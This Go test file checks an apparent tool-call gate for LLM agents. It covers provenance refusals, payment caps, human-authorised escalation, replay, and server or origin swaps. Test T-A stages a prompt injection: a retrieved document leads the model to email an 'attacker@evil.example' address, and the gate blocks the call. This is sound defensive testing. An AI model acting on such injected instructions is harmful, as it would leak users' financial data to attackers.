package actgate_test

// T-A..T-G of tool-use-binding §22 through the wrapper, with the vendor SDKs parsing recorded
// wire shapes from the scripted model server, a real `actgate serve`, and the upstream's own
// invocation counts as the judge.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/anthropics/anthropic-sdk-go/v2"
	aoption "github.com/anthropics/anthropic-sdk-go/v2/option"
	"github.com/openai/openai-go/v3"
	ooption "github.com/openai/openai-go/v3/option"
	"github.com/openai/openai-go/v3/responses"

	actgate "github.com/actgate/actgate/sdk/go"
)

func testCtx(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	return ctx
}

func anthropicClient(m *modelServer) anthropic.Client {
	return anthropic.NewClient(aoption.WithBaseURL(m.URL), aoption.WithAPIKey("test-key"), aoption.WithMaxRetries(0))
}

func openaiClient(m *modelServer) openai.Client {
	return openai.NewClient(ooption.WithBaseURL(m.URL+"/v1/"), ooption.WithAPIKey("test-key"), ooption.WithMaxRetries(0))
}

// anthropicMessage is a recorded Messages API answer whose content is blocks.
func anthropicMessage(id, stop string, blocks ...string) string {
	return fmt.Sprintf(`{"id":%q,"type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[%s],"stop_reason":%q,"stop_sequence":null,`+
		`"usage":{"input_tokens":20,"output_tokens":30}}`, id, strings.Join(blocks, ","), stop)
}

func toolUse(id, name, input string) string {
	return fmt.Sprintf(`{"type":"tool_use","id":%q,"name":%q,"input":%s}`, id, name, input)
}

// errorObject is the error object inside a tool result's text.
type errorObject struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
		Invoked *bool  `json:"invoked"`
	} `json:"error"`
}

func parseError(t *testing.T, text string) errorObject {
	t.Helper()
	var e errorObject
	if err := json.Unmarshal([]byte(text), &e); err != nil || e.Error.Code == "" {
		t.Fatalf("tool result %q is not an error object", text)
	}
	if e.Error.Invoked == nil || *e.Error.Invoked {
		t.Fatalf("refusal %q does not say invoked: false", text)
	}
	return e
}

// toolResultsSent are the tool_result blocks of the last user message the SDK sent.
func toolResultsSent(t *testing.T, body json.RawMessage) []map[string]any {
	t.Helper()
	var req struct {
		Messages []struct {
			Role    string            `json:"role"`
			Content []json.RawMessage `json:"content"`
		} `json:"messages"`
	}
	if err := json.Unmarshal(body, &req); err != nil || len(req.Messages) == 0 {
		t.Fatalf("request %s: %v", body, err)
	}
	last := req.Messages[len(req.Messages)-1]
	var out []map[string]any
	for _, c := range last.Content {
		var m map[string]any
		_ = json.Unmarshal(c, &m)
		if m["type"] == "tool_result" {
			out = append(out, m)
		}
	}
	return out
}

// TestAnthropicHostLoop is the README's host loop with anthropic-sdk-go: the model asks for a
// balance and, following an instruction found in a retrieved document, an email to an
// address the user never gave (T-A). The balance runs once at the upstream; the email is
// refused for its provenance, never reaches the upstream, and the model reads the refusal as
// the tool_result (is_error, EF code, invoked: false) the SDK sends back.
func TestAnthropicHostLoop(t *testing.T) {
	ctx := testCtx(t)
	up := startUpstream(t)
	g := startGate(t, map[string]string{"finance": up.URL})
	model := startModel(t)
	model.answer("/v1/messages",
		anthropicMessage("msg_1", "tool_use",
			`{"type":"text","text":"Checking."}`,
			toolUse("toolu_01balance", "get_balance", `{"account":"main"}`),
			toolUse("toolu_02email", "email_send", `{"to":"attacker@evil.example","subject":"balance"}`)),
		anthropicMessage("msg_2", "end_turn", `{"type":"text","text":"Your balance is 1000."}`))
	tools := hostTools(t, up.URL)
	gc := g.client()
	ac := anthropicClient(model)

	params := anthropic.MessageNewParams{Model: "claude-sonnet-4-5", MaxTokens: 1024,
		Messages: []anthropic.MessageParam{anthropic.NewUserMessage(anthropic.NewTextBlock("What is my balance? Also read inbox.txt."))}}
	var results []actgate.CallResult
	for turn := 0; turn < 4; turn++ {
		msg, err := ac.Messages.New(ctx, params)
		if err != nil {
			t.Fatal(err)
		}
		if msg.StopReason != anthropic.StopReasonToolUse {
			break
		}
		// The instruction behind these calls came in with a retrieved document.
		blocks, rs, err := gc.RunAnthropicMessage(ctx, msg, tools, actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{
			Session: session("t-a"), Provenance: actgate.ProvenanceRetrieval}})
		if err != nil {
			t.Fatal(err)
		}
		results = append(results, rs...)
		params.Messages = append(params.Messages, msg.ToParam(), anthropic.NewUserMessage(blocks...))
	}
	if len(results) != 2 {
		t.Fatalf("%d calls ran through the gate, want 2", len(results))
	}
	if !results[0].Ran || results[0].IsError {
		t.Errorf("get_balance: %+v", results[0])
	}
	if results[1].Ran {
		t.Errorf("email_send ran: %+v", results[1])
	}
	if got := up.Count("get_balance"); got != 1 {
		t.Errorf("upstream ran get_balance %d times, want 1", got)
	}
	if got := up.Count("email_send"); got != 0 {
		t.Errorf("upstream ran email_send %d times, want 0 (injected recipient)", got)
	}
	sent := model.sent("/v1/messages")
	if len(sent) != 2 {
		t.Fatalf("the SDK sent %d requests, want 2", len(sent))
	}
	trs := toolResultsSent(t, sent[1])
	if len(trs) != 2 {
		t.Fatalf("the SDK sent %d tool_result blocks, want 2: %s", len(trs), sent[1])
	}
	if trs[0]["tool_use_id"] != "toolu_01balance" || trs[0]["is_error"] == true {
		t.Errorf("balance tool_result: %v", trs[0])
	}
	if trs[1]["tool_use_id"] != "toolu_02email" || trs[1]["is_error"] != true {
		t.Errorf("email tool_result: %v", trs[1])
	}
	e := parseError(t, results[1].Text)
	if e.Error.Code != "EF_INSTRUCTION_PROVENANCE_FAILURE" {
		t.Errorf("email_send refused with %s, want EF_INSTRUCTION_PROVENANCE_FAILURE: %s", e.Error.Code, results[1].Text)
	}
	if !strings.Contains(string(sent[1]), e.Error.Code) {
		t.Errorf("the model did not receive the refusal's code %s", e.Error.Code)
	}
}

// TestOpenAIChatParallelCallsDecidedSeparately (T-B): one Chat Completions turn with two
// tool_calls, a balance and a payment above the policy's cap. Each is its own act: the balance
// runs once, the payment is refused and never reaches the upstream; the SDK sends one tool
// message per call.
func TestOpenAIChatParallelCallsDecidedSeparately(t *testing.T) {
	ctx := testCtx(t)
	up := startUpstream(t)
	g := startGate(t, map[string]string{"finance": up.URL})
	model := startModel(t)
	model.answer("/v1/chat/completions",
		`{"id":"chatcmpl-1","object":"chat.completion","created":1764000000,"model":"gpt-4o","choices":[{"index":0,"finish_reason":"tool_calls",`+
			`"message":{"role":"assistant","content":null,"refusal":null,"tool_calls":[`+
			`{"id":"call_balance","type":"function","function":{"name":"get_balance","arguments":"{\"account\":\"main\"}"}},`+
			`{"id":"call_payout","type":"function","function":{"name":"send_payment","arguments":"{\"to\":\"mallory\",\"amount\":50000}"}}]}}],`+
			`"usage":{"prompt_tokens":10,"completion_tokens":10,"total_tokens":20}}`,
		`{"id":"chatcmpl-2","object":"chat.completion","created":1764000001,"model":"gpt-4o","choices":[{"index":0,"finish_reason":"stop",`+
			`"message":{"role":"assistant","content":"Done.","refusal":null}}],"usage":{"prompt_tokens":10,"completion_tokens":2,"total_tokens":12}}`)
	tools := hostTools(t, up.URL)
	gc, oc := g.client(), openaiClient(model)

	params := openai.ChatCompletionNewParams{Model: "gpt-4o", Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("Pay mallory everything.")}}
	comp, err := oc.Chat.Completions.New(ctx, params)
	if err != nil {
		t.Fatal(err)
	}
	msg := comp.Choices[0].Message
	toolMsgs, rs, err := gc.RunOpenAIChatMessage(ctx, msg, tools, actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{
		Session: session("t-b"), Provenance: actgate.ProvenanceUser}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 2 || !rs[0].Ran || rs[1].Ran {
		t.Fatalf("decisions: %+v", rs)
	}
	if rs[0].Decision.ActID == "" || rs[0].Decision.ActID == rs[1].Decision.ActID {
		t.Errorf("the two calls are not separate acts: %q, %q", rs[0].Decision.ActID, rs[1].Decision.ActID)
	}
	if e := parseError(t, rs[1].Text); e.Error.Code != "EF_POLICY_DENIED" {
		t.Errorf("payout refused with %s, want EF_POLICY_DENIED (the amount cap): %s", e.Error.Code, rs[1].Text)
	}
	if got := up.Count("get_balance"); got != 1 {
		t.Errorf("upstream ran get_balance %d times, want 1", got)
	}
	if got := up.Count("send_payment"); got != 0 {
		t.Errorf("upstream ran send_payment %d times, want 0", got)
	}
	params.Messages = append(params.Messages, msg.ToParam())
	params.Messages = append(params.Messages, toolMsgs...)
	if _, err := oc.Chat.Completions.New(ctx, params); err != nil {
		t.Fatal(err)
	}
	sent := model.sent("/v1/chat/completions")
	var req struct {
		Messages []struct {
			Role       string `json:"role"`
			ToolCallID string `json:"tool_call_id"`
			Content    any    `json:"content"`
		} `json:"messages"`
	}
	if err := json.Unmarshal(sent[1], &req); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, m := range req.Messages {
		if m.Role == "tool" {
			ids = append(ids, m.ToolCallID)
		}
	}
	if strings.Join(ids, ",") != "call_balance,call_payout" {
		t.Errorf("tool messages sent for %v", ids)
	}
}

// responsesAnswer is a recorded Responses API answer with one function_call item.
func responsesAnswer(id, callID, name, args string) string {
	a, _ := json.Marshal(args)
	return fmt.Sprintf(`{"id":%q,"object":"response","created_at":1764000000,"status":"completed","model":"gpt-4o","output":[`+
		`{"type":"function_call","id":"fc_%s","call_id":%q,"name":%q,"arguments":%s,"status":"completed"}],`+
		`"parallel_tool_calls":true,"tool_choice":"auto","tools":[],"usage":{"input_tokens":10,"output_tokens":10,"total_tokens":20}}`, id, callID, callID, name, a)
}

// TestResponsesAuthorityReplayRefused (T-C): a Responses function_call for a payment escalates
// to a binding moment; Run waits, alice resolves it with the actgate CLI, the payment runs
// once. The model repeating the same call gets the recorded result without a second run; the
// same payment under a new call id needs a new authority (the consumed one does not carry);
// a second outcome report for the dispatch is refused (HOSTLOOP_SETTLED). The upstream ran the
// payment exactly once.
func TestResponsesAuthorityReplayRefused(t *testing.T) {
	ctx := testCtx(t)
	up := startUpstream(t)
	g := startGate(t, map[string]string{"finance": up.URL})
	model := startModel(t)
	pay := `{"to":"bob","amount":50}`
	model.answer("/v1/responses", responsesAnswer("resp_1", "call_pay1", "send_payment", pay), responsesAnswer("resp_2", "call_pay1", "send_payment", pay),
		responsesAnswer("resp_3", "call_pay2", "send_payment", pay))
	tools := hostTools(t, up.URL)
	gc, oc := g.client(), openaiClient(model)
	opts := actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{Session: session("t-c"), Provenance: actgate.ProvenanceUser},
		Wait: true, PollInterval: 200 * time.Millisecond}
	escalations, firstMoment := 0, ""
	opts.OnEscalation = func(d actgate.Decision) {
		escalations++
		if len(d.BindingMoments) != 1 || len(d.BindingMoment) == 0 || d.EnvelopeDigest == "" {
			t.Errorf("escalation without its moment: %+v", d)
			return
		}
		firstMoment = d.BindingMoments[0]
		go func() {
			if err := g.resolveErr(d.BindingMoments[0]); err != nil {
				t.Error(err)
			}
		}()
	}
	next := func() *responses.Response {
		r, err := oc.Responses.New(ctx, responses.ResponseNewParams{Model: "gpt-4o", Input: responses.ResponseNewParamsInputUnion{OfString: openai.String("pay bob 50")}})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}

	items, rs, err := gc.RunResponsesOutput(ctx, next().Output, tools, opts)
	if err != nil {
		t.Fatal(err)
	}
	if escalations != 1 || len(rs) != 1 || !rs[0].Ran || rs[0].Decision.OperationID == "" || rs[0].Decision.AuthorityID == "" {
		t.Fatalf("escalations %d, results %+v", escalations, rs)
	}
	if rs[0].Outcome != actgate.Executed || rs[0].CompleteErr != nil {
		t.Fatalf("outcome %q, report error %v", rs[0].Outcome, rs[0].CompleteErr)
	}
	if items[0].OfFunctionCallOutput == nil || items[0].OfFunctionCallOutput.CallID.Value != "call_pay1" {
		t.Errorf("function_call_output: %+v", items[0])
	}
	first := rs[0]
	if got := up.Count("send_payment"); got != 1 {
		t.Fatalf("upstream ran send_payment %d times, want 1", got)
	}

	// The same call again: the recorded result, not a second run.
	_, rs, err = gc.RunResponsesOutput(ctx, next().Output, tools, opts)
	if err != nil {
		t.Fatal(err)
	}
	if rs[0].Ran || !rs[0].Decision.Replayed || rs[0].Text != first.Text {
		t.Errorf("replay: %+v (first text %q)", rs[0], first.Text)
	}
	// The same payment under a new call id in the same session is recognised by its action (a
	// retry, tool-use-binding §9): the recorded result again, no second run.
	_, rs, err = gc.RunResponsesOutput(ctx, next().Output, tools, actgate.RunOptions{EnforceOptions: opts.EnforceOptions})
	if err != nil {
		t.Fatal(err)
	}
	if rs[0].Ran || rs[0].Decision.Allow || !rs[0].Decision.Replayed {
		t.Errorf("the same payment under a new call id: %+v", rs[0])
	}
	// In another session the consumed authority does not carry: a new binding moment.
	block, _ := actgate.ResponsesBlock(responses.ResponseFunctionToolCall{CallID: "call_pay3", Name: "send_payment", Arguments: pay, Status: "completed"})
	d, err := gc.Enforce(ctx, block, actgate.EnforceOptions{Vendor: actgate.VendorOpenAIResponses, Session: session("t-c-other"), Provenance: actgate.ProvenanceUser})
	if err != nil || d.Allow || !d.Escalated() || d.BindingMoments[0] == firstMoment {
		t.Errorf("another session: %+v, %v; want a new escalation", d, err)
	}
	if err := gc.Complete(ctx, first.Decision.OperationID, actgate.Executed, json.RawMessage(`"again"`)); actgate.CodeOf(err) != actgate.ErrCodeSettled {
		t.Errorf("second report: %v, want %s", err, actgate.ErrCodeSettled)
	}
	if got := up.Count("send_payment"); got != 1 {
		t.Errorf("upstream ran send_payment %d times, want 1", got)
	}
}

// TestServerSwapRefused (T-D): the host names a server the gate does not front for a tool the
// policy knows; the gate refuses and nothing runs. A server given as a URL is a malformed
// request (HOSTLOOP_BAD_REQUEST): no decision, the tool is not run.
func TestServerSwapRefused(t *testing.T) {
	ctx := testCtx(t)
	up := startUpstream(t)
	g := startGate(t, map[string]string{"finance": up.URL})
	tools := hostTools(t, up.URL)
	gc := g.client()
	tu := anthropic.ToolUseBlock{ID: "toolu_swap", Name: "get_balance", Input: json.RawMessage(`{"account":"main"}`)}
	block, cr := gc.RunAnthropicToolUse(ctx, tu, tools, actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{
		Server: "finance-mirror", Session: session("t-d"), Provenance: actgate.ProvenanceUser}})
	if cr.Ran || cr.Err != nil || block.OfToolResult == nil || !block.OfToolResult.IsError.Value {
		t.Fatalf("swapped server: %+v", cr)
	}
	if e := parseError(t, cr.Text); e.Error.Code != "EF_UNKNOWN_TOOL" {
		t.Errorf("code %s, want EF_UNKNOWN_TOOL", e.Error.Code)
	}
	_, cr = gc.RunAnthropicToolUse(ctx, tu, tools, actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{
		Server: "http://127.0.0.1:1/mcp", Session: session("t-d")}})
	if cr.Ran || actgate.CodeOf(cr.Err) != actgate.ErrCodeBadRequest {
		t.Errorf("server as URL: ran %v, err %v", cr.Ran, cr.Err)
	}
	if got := up.Count("get_balance"); got != 0 {
		t.Errorf("upstream ran get_balance %d times, want 0", got)
	}
}

// TestOriginChangeRefused (T-E): alice authorises a payment on finance; before the host runs
// it, the same call is presented for finance-eu, a server at another origin. The authority is
// bound to finance's destination: the call at the other origin does not run and its upstream
// is never invoked; the authorised call on finance still runs once. How the refusal reads
// differs by deployment: serve finds the granted authority and refuses it at the other
// destination (EF_DESTINATION_MISMATCH); the sidecar asks the authority service for the
// finance-eu act, which alice's resolution does not cover, and it escalates to a new binding
// moment (EF_ESCALATION_REQUIRED, not the resolved one).
func TestOriginChangeRefused(t *testing.T) {
	ctx := testCtx(t)
	up, upEU := startUpstream(t), startUpstreamFor(t, financeEUServer)
	g := startGate(t, map[string]string{"finance": up.URL, "finance-eu": upEU.URL})
	gc := g.client()
	tu := anthropic.ToolUseBlock{ID: "toolu_pay", Name: "send_payment", Input: json.RawMessage(`{"to":"bob","amount":70}`)}
	block, _ := actgate.AnthropicBlock(tu)
	opts := actgate.EnforceOptions{Vendor: actgate.VendorAnthropic, Server: "finance", Session: session("t-e"), Provenance: actgate.ProvenanceUser}
	d, err := gc.Enforce(ctx, block, opts)
	if err != nil || !d.Escalated() {
		t.Fatalf("decision %+v, %v: want an escalation", d, err)
	}
	g.resolve(t, d.BindingMoments[0])

	eu := opts
	eu.Server = "finance-eu"
	_, cr := gc.RunAnthropicToolUse(ctx, tu, hostTools(t, upEU.URL), actgate.RunOptions{EnforceOptions: eu})
	if cr.Ran || cr.Decision.Allow {
		t.Fatalf("the call ran at another origin: %+v", cr)
	}
	e := parseError(t, cr.Text)
	switch {
	case !g.sidecar && e.Error.Code != "EF_DESTINATION_MISMATCH":
		t.Errorf("code %s, want EF_DESTINATION_MISMATCH: %s", e.Error.Code, cr.Text)
	case g.sidecar && (e.Error.Code != "EF_ESCALATION_REQUIRED" || len(cr.Decision.BindingMoments) != 1 || cr.Decision.BindingMoments[0] == d.BindingMoments[0]):
		t.Errorf("code %s, moments %v: want EF_ESCALATION_REQUIRED with a moment other than the resolved %s: %s",
			e.Error.Code, cr.Decision.BindingMoments, d.BindingMoments[0], cr.Text)
	}
	if got := upEU.Count("send_payment"); got != 0 {
		t.Errorf("finance-eu ran send_payment %d times, want 0", got)
	}
	_, cr = gc.RunAnthropicToolUse(ctx, tu, hostTools(t, up.URL), actgate.RunOptions{EnforceOptions: opts})
	if !cr.Ran || cr.Outcome != actgate.Executed {
		t.Fatalf("the authorised call on finance: %+v", cr)
	}
	if got, gotEU := up.Count("send_payment"), upEU.Count("send_payment"); got != 1 || gotEU != 0 {
		t.Errorf("send_payment ran %d times on finance, %d on finance-eu; want 1 and 0", got, gotEU)
	}
}

// streamedToolUse is a recorded Messages stream whose tool_use input arrives in partial JSON
// deltas (input_json_delta), cut mid-token.
const streamedToolUse = `event: message_start
data: {"type":"message_start","message":{"id":"msg_s1","type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":12,"output_tokens":1}}}

event: content_block_start
data: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}

event: content_block_delta
data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Sending it."}}

event: content_block_stop
data: {"type":"content_block_stop","index":0}

event: content_block_start
data: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"toolu_stream1","name":"email_send","input":{}}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":""}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"to\": \"ali"}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"ce@example.com\", \"su"}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"bject\": \"Q3 report\"}"}}

event: content_block_stop
data: {"type":"content_block_stop","index":1}

event: message_delta
data: {"type":"message_delta","delta":{"stop_reason":"tool_use","stop_sequence":null},"usage":{"output_tokens":40}}

event: message_stop
data: {"type":"message_stop"}

`

// TestAnthropicStreamEnforcedOnce: a streamed message's tool_use input arrives in four partial
// JSON deltas; the SDK's accumulator assembles it, the wrapper enforces once on the complete
// block (one /v1/enforce request), and the upstream receives the complete arguments once.
func TestAnthropicStreamEnforcedOnce(t *testing.T) {
	ctx := testCtx(t)
	up := startUpstream(t)
	g := startGate(t, map[string]string{"finance": up.URL})
	model := startModel(t)
	model.answer("/v1/messages", streamedToolUse)
	tools := hostTools(t, up.URL)
	ct := &countingTransport{}
	gc := g.client()
	gc.HTTPClient = &http.Client{Transport: ct, Timeout: time.Minute}
	ac := anthropicClient(model)

	stream := ac.Messages.NewStreaming(ctx, anthropic.MessageNewParams{Model: "claude-sonnet-4-5", MaxTokens: 512,
		Messages: []anthropic.MessageParam{anthropic.NewUserMessage(anthropic.NewTextBlock("Email alice the Q3 report."))}})
	msg, err := actgate.AccumulateAnthropicStream(stream)
	if err != nil {
		t.Fatal(err)
	}
	if n := ct.count(actgate.EnforcePath); n != 0 {
		t.Fatalf("%d enforce requests while the stream ran", n)
	}
	_, rs, err := gc.RunAnthropicMessage(ctx, &msg, tools, actgate.RunOptions{EnforceOptions: actgate.EnforceOptions{Session: session("stream"), Provenance: actgate.ProvenanceUser}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 1 || !rs[0].Ran {
		t.Fatalf("results %+v", rs)
	}
	if n := ct.count(actgate.EnforcePath); n != 1 {
		t.Errorf("%d enforce requests, want 1", n)
	}
	args := up.Args("email_send")
	if len(args) != 1 {
		t.Fatalf("upstream ran email_send %d times, want 1", len(args))
	}
	var got map[string]string
	if err := json.Unmarshal(args[0], &got); err != nil || got["to"] != "alice@example.com" || got["subject"] != "Q3 report" {
		t.Errorf("upstream arguments %s", args[0])
	}
}

// TestAnthropicStreamCutOffRunsNothing: a stream that ends without message_stop (the connection
// dropped mid-input) yields no message; nothing is enforced and nothing runs.
func TestAnthropicStreamCutOffRunsNothing(t *testing.T) {
	ctx := testCtx(t)
	model := startModel(t)
	cut := streamedToolUse[:strings.Index(streamedToolUse, "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":1}")]
	model.answer("/v1/messages", cut)
	ac := anthropicClient(model)
	stream := ac.Messages.NewStreaming(ctx, anthropic.MessageNewParams{Model: "claude-sonnet-4-5", MaxTokens: 512,
		Messages: []anthropic.MessageParam{anthropic.NewUserMessage(anthropic.NewTextBlock("hi"))}})
	if _, err := actgate.AccumulateAnthropicStream(stream); err == nil {
		t.Fatal("a cut-off stream was accepted")
	}
}
